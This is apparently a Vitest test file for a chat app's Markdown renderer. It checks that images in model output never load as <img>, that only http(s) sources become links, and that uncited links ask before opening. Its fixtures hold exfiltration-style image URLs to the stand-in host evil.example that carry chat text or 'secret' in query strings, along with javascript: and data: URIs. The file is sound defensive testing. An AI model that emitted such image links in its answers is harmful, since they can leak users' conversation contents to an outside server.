import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { MarkdownContent } from "@/components/chat/markdown-content";
import { IMAGE_LINK_REL, imageAsLink, isCitedLink } from "./markdown-policy";

function render(text: string, streaming = false, citedUrls?: string[]): string {
  return renderToStaticMarkup(createElement(MarkdownContent, { text, streaming, citedUrls }));
}

describe("imageAsLink", () => {
  it("turns an http(s) image into a link labelled with its alt text", () => {
    expect(imageAsLink("https://evil.example/x.png?q=secret", " a chart ")).toEqual({
      href: "https://evil.example/x.png?q=secret",
      label: "a chart",
      rel: "noopener noreferrer nofollow",
      target: "_blank",
    });
    expect(IMAGE_LINK_REL.split(" ").sort()).toEqual(["nofollow", "noopener", "noreferrer"]);
  });

  it("labels an image without alt text as “image”", () => {
    expect(imageAsLink("http://example.com/a.png", undefined).label).toBe("image");
    expect(imageAsLink("http://example.com/a.png", "   ").label).toBe("image");
  });

  it("links only absolute http(s) sources", () => {
    for (const src of ["javascript:alert(1)", "data:image/png;base64,AAAA", "/api/provider/logout", "", undefined, 42]) {
      expect(imageAsLink(src, "x").href, String(src)).toBeNull();
    }
  });
});

describe("MarkdownContent", () => {
  it("never renders an <img> for a Markdown image in model output", () => {
    const html = render("Here: ![the secret](https://evil.example/collect?q=my%20chat%20text) done");
    expect(html).not.toMatch(/<img\b/i);
    expect(html).not.toContain("evil.example");
    // A link labelled with the alt text, behind the link-safety prompt (which shows the URL on click).
    expect(html).toMatch(/<button[^>]*data-streamdown="link"[^>]*>the secret<\/button>/);
  });

  it("shows an image inside a link as plain text, not as a link nested in a link", () => {
    const html = render("[![build passing](https://evil.example/badge.svg)](https://example.com/ci)");
    expect(html).not.toMatch(/<img\b/i);
    expect(html.match(/data-streamdown="link"/g)).toHaveLength(1);
    expect(html).toContain('<span data-markdown-image="unlinked">build passing</span>');
  });

  it("never renders an <img> for raw HTML images or <picture> sources", () => {
    const html = render(
      'A <img src="https://evil.example/raw?q=1" alt="raw"> and <picture><source srcset="https://evil.example/src?q=2"><img src="https://evil.example/pic?q=3"></picture>',
    );
    expect(html).not.toMatch(/<img\b/i);
    expect(html).not.toMatch(/<source\b/i);
    expect(html).not.toContain("https://evil.example/src?q=2");
  });

  it("does not load images while streaming either", () => {
    expect(render("![x](https://evil.example/a?q=1)\n\nmore", true)).not.toMatch(/<img\b/i);
  });

  it("opens a page the answer cites (its url_citation) directly, in a new tab without opener or referrer; any other link still asks", () => {
    const cited = "https://news.example.org/tides";
    const html = render(`Tides ([news.example.org](${cited})) and [elsewhere](https://evil.example/?q=secret).`, false, [cited]);
    expect(html).toMatch(/<a[^>]*href="https:\/\/news\.example\.org\/tides"[^>]*>news\.example\.org<\/a>/);
    const anchor = /<a\b[^>]*>/.exec(html)![0];
    expect(anchor).toContain('target="_blank"');
    expect(anchor).toContain('rel="noopener noreferrer"');
    expect(html).toMatch(/<button[^>]*data-streamdown="link"[^>]*>elsewhere<\/button>/);
    expect(html).not.toMatch(/<a\b[^>]*href="https:\/\/evil\.example/);
  });

  it("counts a link as a citation only when it is the cited address, not a look-alike", () => {
    expect(isCitedLink("https://news.example.org/tides", ["https://news.example.org/tides"])).toBe(true);
    expect(isCitedLink("https://NEWS.example.org/tides", ["https://news.example.org/tides"])).toBe(true);
    expect(isCitedLink("https://news.example.org/tides?x=1", ["https://news.example.org/tides"])).toBe(false);
    expect(isCitedLink("javascript:alert(1)", ["javascript:alert(1)"])).toBe(false);
    expect(isCitedLink(undefined, ["https://news.example.org/tides"])).toBe(false);
  });

  it("keeps link safety on: a link is a button that asks before opening, not a direct <a href>", () => {
    const html = render("[click](https://evil.example/?q=secret)");
    expect(html).toContain('data-streamdown="link"');
    expect(html).toMatch(/<button[^>]*data-streamdown="link"/);
    expect(html).not.toMatch(/<a\b[^>]*href="https:\/\/evil\.example/);
  });
});
